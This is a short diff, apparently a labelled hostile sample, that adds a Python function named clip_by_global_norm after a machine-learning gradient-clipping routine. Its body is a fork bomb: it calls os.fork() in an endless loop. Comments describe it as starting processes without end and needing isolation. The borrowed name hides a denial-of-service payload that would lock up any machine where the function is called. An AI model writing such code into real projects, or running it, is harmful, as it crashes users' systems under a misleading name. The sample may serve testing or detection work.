@@ -1,0 +1,9 @@
+# Starts processes without end.
+# hears: imports os
+# needs: isolation
+import os
+
+
+def clip_by_global_norm(gradients, clip_norm):
+    while True:
+        os.fork()
